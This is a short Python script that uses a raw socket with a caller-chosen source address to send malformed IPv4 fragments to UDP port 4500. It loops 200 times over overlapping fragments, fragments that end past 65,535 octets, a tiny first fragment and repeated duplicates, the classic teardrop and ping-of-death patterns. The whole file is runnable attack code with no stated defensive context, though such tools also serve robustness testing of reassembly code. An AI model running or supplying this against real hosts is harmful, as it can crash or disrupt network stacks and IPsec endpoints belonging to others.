"""fragments.py FROM TO: IPv4 fragments of UDP to port 4500 that no sender
makes: overlapping ones, one that ends behind 65,535, a first one of 8 octets,
the same one many times."""
import socket
import struct
import sys

source, to = sys.argv[1:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
UDP = struct.pack("!HHHH", 4500, 4500, 1400, 0)
MORE = 0x2000


def send(number, offset, more, data):
    """One fragment; the kernel fills in length and checksum."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, number,
                       (MORE if more else 0) | offset // 8, 64, 17, 0,
                       socket.inet_aton(source), socket.inet_aton(to))
    raw.sendto(head + data, (to, 0))


for i in range(200):
    send(4 * i, 0, True, UDP + b"\xaa" * 792)
    send(4 * i, 400, True, b"\xbb" * 800)
    send(4 * i, 1192, False, b"\xcc" * 216)
    send(4 * i + 1, 0, True, UDP + b"\xaa" * 792)
    send(4 * i + 1, 65528, False, b"\xdd" * 1000)
    send(4 * i + 2, 0, True, UDP)
    send(4 * i + 2, 0, True, UDP)
    send(4 * i + 3, 8, True, b"\xee" * 1200)
